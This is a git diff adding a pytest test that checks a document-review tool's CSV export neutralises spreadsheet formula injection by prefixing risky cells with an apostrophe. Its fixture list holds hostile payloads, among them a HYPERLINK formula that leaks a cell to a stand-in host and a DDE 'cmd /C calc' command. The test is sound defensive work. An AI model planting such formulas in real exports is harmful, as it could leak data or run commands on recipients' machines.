@@ -12,6 +12,7 @@ from lxml import etree
 
 from tests.conftest import NS, W
 from tests.review.copies import P4, brazil, korea, run_cli
+from tests.support.member_copy import MemberCopy
 from wcodoc.cli import main
 from wcodoc.render.html5.page import STYLESHEET
 
@@ -84,3 +85,36 @@ def test_docx_format_needs_an_output_file(base, tmp_path, capsys):
         main(["review", "collect", str(base), str(brazil(base, tmp_path / "b.docx")), "--format", "docx"])
     assert exit_info.value.code == 1
     assert "--format docx needs -o" in capsys.readouterr().err
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.org/?leak="&A1,"Details")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_read_as_text(base, tmp_path, capsys):
+    copy = MemberCopy(base)
+    for formula in FORMULAS:
+        copy.comment("Capacity building", "Korea Customs", formula)
+    for author in ("\tKorea Customs", "\rKorea Customs", "=Korea Customs"):
+        copy.comment("Customs administrations met", author, "Noted.")
+    returned = str(copy.save(tmp_path / "=korea.docx"))
+    entries = json.loads(run_cli(["review", "collect", str(base), returned], capsys))["entries"]
+    out = run_cli(["review", "collect", str(base), returned, "--format", "csv"], capsys)
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert [r["comment"] for r in rows if r["paragraph"] == "3"] == ["'" + f for f in FORMULAS]
+    assert [r["member"] for r in rows if r["paragraph"] == "1"] == [
+        "'\tKorea Customs",
+        "'\rKorea Customs",
+        "'=Korea Customs",
+    ]
+    for row, entry in zip(rows, entries, strict=True):
+        for column, cell in row.items():
+            value = entry[column] or ""
+            assert cell == ("'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value)
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert out.startswith('"paragraph","member","file","kind"') and "\"'=cmd|' /C calc'!A0\"" in out
